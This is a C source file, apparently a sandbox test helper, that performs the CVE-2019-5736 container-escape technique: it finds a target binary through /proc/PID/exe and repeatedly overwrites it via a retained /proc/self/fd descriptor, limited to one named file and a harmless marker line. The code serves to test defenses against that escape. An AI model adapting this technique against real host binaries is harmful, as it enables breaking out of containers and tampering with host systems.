/* SPDX-License-Identifier: Apache-2.0 */
/*
 * overwrite-exe: overwrite the program another process runs (CVE-2019-5736)
 *
 *   overwrite-exe MILLISECONDS DEVICE:INODE
 *
 * Keeps a descriptor of that file, once it meets it as a /proc/PID/exe, so that the file stays
 * reachable after its process, when it is no longer busy, and tries all the time to open it
 * anew for writing.  Prints "seen N overwritten M".
 *
 * The file is named, and every other left alone, because this is run as root outside of any
 * sandbox too, as a control, and would write over the programs of the host.
 */
#include <fcntl.h>
#include <dirent.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define TARGETS_MAX 256

static struct target {
	dev_t dev;
	ino_t ino;
	int fd;
	bool overwritten;
} targets[TARGETS_MAX];
static size_t n_targets;

static uint64_t now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (uint64_t)ts.tv_sec * 1000 + (uint64_t)ts.tv_nsec / 1000000;
}

static void remember(const char *path, const struct stat *wanted)
{
	int fd = open(path, O_PATH | O_CLOEXEC);
	struct stat st;

	if (fd < 0)
		return;
	if (n_targets == TARGETS_MAX || fstat(fd, &st) < 0 || st.st_dev != wanted->st_dev ||
	    st.st_ino != wanted->st_ino) {
		close(fd);
		return;
	}
	for (size_t i = 0; i < n_targets; i++) {
		if (targets[i].dev == st.st_dev && targets[i].ino == st.st_ino) {
			close(fd);
			return;
		}
	}
	targets[n_targets++] = (struct target){ st.st_dev, st.st_ino, fd, false };
}

static void look_around(const struct stat *wanted)
{
	DIR *proc = opendir("/proc");
	struct dirent *entry;
	char path[300];

	while (proc && (entry = readdir(proc))) {
		snprintf(path, sizeof(path), "/proc/%s/exe", entry->d_name);
		if (entry->d_name[0] >= '0' && entry->d_name[0] <= '9')
			remember(path, wanted);
	}
	if (proc)
		closedir(proc);
}

static void overwrite(struct target *target)
{
	static const char text[] = "#!/bin/false overwritten\n";
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", target->fd);
	fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	target->overwritten |= write(fd, text, sizeof(text) - 1) > 0;
	close(fd);
}

int main(int argc, char **argv)
{
	unsigned long long ms, device, inode;
	struct stat wanted = { 0 };
	size_t overwritten = 0;
	uint64_t end;

	if (argc != 3 || sscanf(argv[1], "%llu", &ms) != 1 ||
	    sscanf(argv[2], "%llu:%llu", &device, &inode) != 2) {
		fprintf(stderr, "usage: overwrite-exe MILLISECONDS DEVICE:INODE\n");
		return 2;
	}
	wanted.st_dev = (dev_t)device;
	wanted.st_ino = (ino_t)inode;
	end = now_ms() + ms;
	while (now_ms() < end) {
		look_around(&wanted);
		for (size_t i = 0; i < n_targets; i++)
			overwrite(&targets[i]);
	}
	for (size_t i = 0; i < n_targets; i++)
		overwritten += targets[i].overwritten;
	printf("seen %zu overwritten %zu\n", n_targets, overwritten);
	return fflush(stdout) == 0 ? 0 : 1;
}
